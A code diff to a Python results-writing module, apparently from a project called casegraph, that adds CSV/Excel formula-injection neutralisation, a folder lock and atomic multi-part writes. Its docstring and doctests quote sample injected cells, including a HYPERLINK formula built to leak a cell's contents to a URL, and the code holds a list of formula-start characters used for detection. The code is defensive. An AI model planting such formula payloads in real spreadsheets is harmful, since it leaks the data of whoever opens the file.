@@ -1,18 +1,31 @@
-"""Write a result: CSVs Excel can open, a summary, and nothing half-written.
+"""Write a result: cells that stay text, whole results, and nothing half-written.
 
-Three ways to write, one for each shape of output, all of them staged beside
-their place and renamed into it, so a crash or a full disk never leaves half
-of anything:
+**Cells stay text.** A spreadsheet takes a cell that starts with ``=``, ``+``,
+``-`` or ``@`` (or a tab or carriage return before one) for a formula: a
+party named ``=HYPERLINK("http://…?leak="&A2)`` would run when a judge opens
+the file. :func:`text_cells` prefixes such a cell with ``'`` (as OWASP
+advises for CSV injection); :func:`write_csv` and :func:`write_sheets` (and
+the clerk's 结果.xlsx, :mod:`casegraph.write.workbook`), the only ways
+casegraph writes a table, all go through it, and a workbook's cells are
+written as strings, never formulas.
 
-* :func:`atomic_file`: one file (the day's routes, the flags workbook);
-* :func:`write_tables`: a result folder, its files moved in one by one,
+**Nothing half-written.** Three ways to write, one for each shape of output,
+all of them staged beside their place and renamed into it:
+
+* :func:`atomic_file`: one file (the day's routes);
+* :func:`write_tables`: a result folder: its CSVs and any other parts (the
+  report, a workbook) are staged together and moved in as one unit,
   ``summary.json`` last: a folder with a summary is a whole result; a run
   that fails leaves the previous result (or nothing) behind, never a mix
   that looks whole;
-* :func:`atomic_folder`: a folder replaced whole (the report site).
+* :func:`atomic_folder`: a folder replaced whole (a report on its own).
 
-:func:`write_result` (an analysis) and :func:`write_plan` (a clearing plan)
-write through :func:`write_tables`.
+**One writer at a time.** :func:`out_lock` holds a result folder for a whole
+run: a second run into the same folder is refused with one line. Under the
+lock, staging left behind by a killed run is removed.
+
+:func:`casegraph.write.result.write_result` (an analysis) and
+:func:`write_plan` (a clearing plan) write through :func:`write_tables`.
 
 Every temporary name starts with ``.casegraph-``. Every file written is
 its owner's only (0600, folders 0700): results name parties, and the routes,
@@ -25,23 +38,85 @@ import json
 import os
 import shutil
 import tempfile
-from collections.abc import Iterator
+from collections.abc import Callable, Iterator, Mapping
 from pathlib import Path
 
 import pandas as pd
+from filelock import FileLock, Timeout
 
 from casegraph import contract as C
 from casegraph.errors import OutputError
-from casegraph.reasons import localised
-from casegraph.write.workbook import write_workbook
-from casegraph.write.csvtext import write_csv
+from casegraph.write.csvtext import write_csv as _polars_csv
 
 
 STAGE_PREFIX = ".casegraph-"
+LOCK_FILE = ".casegraph.lock"
+# Staging names of earlier versions, removed as stale too.
+_OLD_STAGES = (".report-",)
+
+# What a spreadsheet reads as the start of a formula (OWASP, CSV injection).
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
 
 
-def _csv(df: pd.DataFrame, path: Path, columns) -> None:
-    write_csv(df.reindex(columns=list(columns)), path)  # pandas' bytes, written by polars
+def text_cells(df: pd.DataFrame) -> pd.DataFrame:
+    """``df`` with every text cell that a spreadsheet would take for a
+    formula prefixed with ``'``; numbers stay numbers. The one function every
+    CSV and workbook writer of casegraph goes through (a copy is made only
+    when a cell changes).
+
+    >>> df = pd.DataFrame({"name": ["=HYPERLINK(\\"http://x\\")", "张三", "-1+2", "@SUM(A1)"], "amount": [-5.0, 1, 2, 3]})
+    >>> text_cells(df)["name"].tolist(), text_cells(df)["amount"].tolist()
+    (['\\'=HYPERLINK("http://x")', '张三', "'-1+2", "'@SUM(A1)"], [-5.0, 1.0, 2.0, 3.0])
+    """
+    out = df
+    for i, col in enumerate(df.columns):
+        s = df.iloc[:, i]
+        if not (s.dtype == object or pd.api.types.is_string_dtype(s.dtype)):
+            continue
+        try:
+            hit = s.str.startswith(FORMULA_START).fillna(False).to_numpy(dtype=bool)
+        except AttributeError:  # an object column without any text
+            continue
+        if hit.any():
+            if out is df:
+                out = df.copy()
+            fixed = s.to_numpy(dtype=object).copy()
+            fixed[hit] = ["'" + v for v in fixed[hit]]
+            out.isetitem(i, pd.Series(fixed, index=df.index, dtype=s.dtype))
+    return out
+
+
+def text_cell(value):
+    """:func:`text_cells` for one value.
+
+    >>> text_cell("=1+1"), text_cell("王五"), text_cell(-3)
+    ("'=1+1", '王五', -3)
+    """
+    return "'" + value if isinstance(value, str) and value.startswith(FORMULA_START) else value
+
+
+def write_csv(df: pd.DataFrame, path: Path, columns=None) -> None:
+    """A table as a CSV Excel opens (BOM, yuan with two decimals), its cells
+    neutralised (:func:`text_cells`); ``columns`` picks and orders them."""
+    if columns is not None:
+        df = df.reindex(columns=list(columns))
+    _polars_csv(text_cells(df), path)  # pandas' bytes, written by polars
+
+
+def write_sheets(sheets: Mapping[str, pd.DataFrame], path: Path) -> None:
+    """Tables as the sheets of one .xlsx workbook, every cell neutralised
+    (:func:`text_cells`) and text written as text, never as a formula.
+
+    >>> import openpyxl
+    >>> book = Path(tempfile.mkdtemp()) / "flags.xlsx"
+    >>> write_sheets({"flags": pd.DataFrame({"name": ["=1+1"]})}, book)
+    >>> cell = openpyxl.load_workbook(book)["flags"]["A2"]
+    >>> cell.value, cell.data_type
+    ("'=1+1", 's')
+    """
+    with pd.ExcelWriter(path, engine="openpyxl") as xl:
+        for name, df in sheets.items():
+            text_cells(df).to_excel(xl, sheet_name=name, index=False)
 
 
 def _fsync(path: Path) -> None:
@@ -133,15 +208,6 @@ def _owner_only(folder: Path) -> None:
         os.chmod(path, 0o700 if path.is_dir() else 0o600)
 
 
-def write_result(result, out_dir: str | Path, lang: str = "zh") -> Path:
-    """Write every table of ``result`` (a :class:`casegraph.analyze.Result`)
-    into ``out_dir``, and the clerk's workbook 结果.xlsx; reasons are in
-    ``lang`` ("zh" or "en", :mod:`casegraph.reasons`). Returns the folder."""
-    tables = localised(result.tables(), lang)
-    workbook = {C.WORKBOOK_FILE: lambda path: write_workbook(tables, path, result.summary)}
-    return write_tables(tables, C.OUTPUTS, result.summary, out_dir, also=workbook)
-
-
 def write_plan(plan, out_dir: str | Path) -> Path:
     """Write a clearing plan (:class:`casegraph.find.clearing.ClearingPlan`):
     its tables and ``summary.json`` into ``out_dir``, as :func:`write_tables`
@@ -160,43 +226,126 @@ def write_plan(plan, out_dir: str | Path) -> Path:
     return write_tables(plan.tables(), plan.outputs, plan.summary, out)
 
 
-def write_tables(tables: dict[str, pd.DataFrame], outputs: dict[str, C.Output], summary: dict,
-                 out_dir: str | Path, also: dict | None = None) -> Path:
-    """Write ``tables`` (by name; ``outputs[name]`` gives file and columns)
-    and ``summary`` into ``out_dir``, staged and moved in with the summary
-    last (see the module docstring); ``also`` maps more file names to a
-    function that writes that file at the path it is given. Returns the folder."""
+# The locks this process holds, by folder: a run holds its folder's lock from
+# start to end, and the writing inside it takes the same lock again.
+_LOCKS: dict[Path, FileLock] = {}
+
+
+@contextlib.contextmanager
+def out_lock(out_dir: str | Path) -> Iterator[Path]:
+    """Hold ``out_dir`` (made if missing) for one run: another run into it,
+    in this process or another, is refused with one :class:`OutputError`
+    line while this one lasts. On taking it, staging left in the folder by a
+    run that was killed is removed. A run that fails leaves no folder it
+    made itself.
+
+    >>> folder = Path(tempfile.mkdtemp()) / "results"
+    >>> with out_lock(folder):
+    ...     try:
+    ...         FileLock(folder / LOCK_FILE, timeout=0).acquire()  # as another run would
+    ...     except Timeout:
+    ...         print("refused")
+    refused
+    """
     out = Path(out_dir)
     if out.exists() and not out.is_dir():
         raise OutputError(f"{out}: is a file, not a folder for the results")
+    made = not out.exists()
     try:
         out.mkdir(parents=True, exist_ok=True)
-        stage = Path(tempfile.mkdtemp(prefix=STAGE_PREFIX, dir=out))
+        key = out.resolve()
+        lock = _LOCKS.get(key) or _LOCKS.setdefault(key, FileLock(out / LOCK_FILE, timeout=0, mode=0o600))
+        lock.acquire()
+    except Timeout:
+        raise OutputError(f"{out}: another casegraph run is writing its results here; wait for it to end, "
+                          "or give another --out") from None
     except OSError as e:
-        raise OutputError(f"{out}: cannot write the results here ({e.strerror})") from None
-    touched = False  # whether the previous result (if any) was changed
+        raise OutputError(f"{e.filename or out}: cannot write the results here ({e.strerror})") from None
+    failed = False
     try:
-        for name, df in tables.items():
-            _csv(df, stage / outputs[name].filename, outputs[name].columns)
-        for filename, write in (also or {}).items():
-            write(stage / filename)
-        (stage / C.SUMMARY_FILE).write_text(json.dumps(summary, ensure_ascii=False, indent=2), encoding="utf-8")
-        _owner_only(stage)
-        for f in stage.iterdir():
-            _fsync(f)
-        touched = True
-        (out / C.SUMMARY_FILE).unlink(missing_ok=True)  # the old result is no longer whole
-        # A file of the old result this one does not have (assignments.csv of
-        # a run with judges) must not pass for part of the new one.
-        written = {outputs[name].filename for name in tables} | set(also or {})
-        for o in outputs.values():
-            if o.filename not in written:
-                (out / o.filename).unlink(missing_ok=True)
-        for f in sorted(stage.iterdir(), key=lambda p: p.name == C.SUMMARY_FILE):
-            os.replace(f, out / f.name)
-    except OSError as e:
-        left = "no complete result was left" if touched else "the previous result there, if any, is untouched"
-        raise OutputError(f"{out}: writing the results failed ({e.strerror}); {left}") from None
+        if lock.lock_counter == 1:
+            _remove_stale_staging(out)
+        yield out
+    except BaseException:
+        failed = True
+        raise
     finally:
-        shutil.rmtree(stage, ignore_errors=True)
+        lock.release()
+        if failed and made and lock.lock_counter == 0:
+            with contextlib.suppress(OSError):
+                (out / LOCK_FILE).unlink()
+                out.rmdir()  # only if empty: what the run wrote stays
+
+
+def _remove_stale_staging(out: Path) -> None:
+    """Staging of runs that were killed: nobody else writes here while the lock is held."""
+    for p in out.iterdir():
+        if p.name.startswith((STAGE_PREFIX, *_OLD_STAGES)):
+            if p.is_dir() and not p.is_symlink():
+                shutil.rmtree(p, ignore_errors=True)
+            else:
+                with contextlib.suppress(OSError):
+                    p.unlink()
+
+
+def write_tables(tables: dict[str, pd.DataFrame], outputs: dict[str, C.Output], summary: dict,
+                 out_dir: str | Path, parts: Mapping[str, Callable[[Path], None] | None] | None = None) -> Path:
+    """Write ``tables`` (by name; ``outputs[name]`` gives file and columns),
+    ``parts`` and ``summary`` into ``out_dir`` as one unit (see the module
+    docstring); returns the folder.
+
+    ``parts`` maps a file or folder name to a function that writes it at the
+    path it is given (the report site, a workbook); a name mapped to None is
+    a part this result does not have, and an old one is removed. Everything
+    is staged first: a part that fails leaves the previous result whole.
+    """
+    out = Path(out_dir)
+    parts = dict(parts or {})
+    with out_lock(out):
+        try:
+            stage = Path(tempfile.mkdtemp(prefix=STAGE_PREFIX, dir=out))
+        except OSError as e:
+            raise OutputError(f"{out}: cannot write the results here ({e.strerror})") from None
+        touched = False  # whether the previous result (if any) was changed
+        try:
+            for name, df in tables.items():
+                write_csv(df, stage / outputs[name].filename, outputs[name].columns)
+            for name, write in parts.items():
+                if write is not None:
+                    write(stage / name)
+            (stage / C.SUMMARY_FILE).write_text(json.dumps(summary, ensure_ascii=False, indent=2), encoding="utf-8")
+            _owner_only(stage)
+            for f in stage.iterdir():
+                if f.is_file():
+                    _fsync(f)
+            touched = True
+            (out / C.SUMMARY_FILE).unlink(missing_ok=True)  # the old result is no longer whole
+            # A file of the old result this one does not have (assignments.csv of
+            # a run with judges) must not pass for part of the new one.
+            written = {outputs[name].filename for name in tables} | {n for n, w in parts.items() if w is not None}
+            for name in [o.filename for o in outputs.values()] + list(parts):
+                if name not in written:
+                    _remove(out / name)
+            for f in sorted(stage.iterdir(), key=lambda p: p.name == C.SUMMARY_FILE):
+                _move_in(f, out / f.name, stage)
+        except OSError as e:
+            left = "no complete result was left" if touched else "the previous result there, if any, is untouched"
+            raise OutputError(f"{out}: writing the results failed ({e.strerror}); {left}") from None
+        finally:
+            shutil.rmtree(stage, ignore_errors=True)
     return out
+
+
+def _move_in(src: Path, dst: Path, stage: Path) -> None:
+    """A staged file or folder onto its place; an old folder there goes back
+    into the stage, to be removed with it."""
+    if src.is_dir() and dst.is_dir() and not dst.is_symlink():
+        os.replace(dst, stage / f"{STAGE_PREFIX}old-{dst.name}")
+    os.replace(src, dst)
+
+
+def _remove(path: Path) -> None:
+    if path.is_dir() and not path.is_symlink():
+        shutil.rmtree(path)
+    else:
+        path.unlink(missing_ok=True)
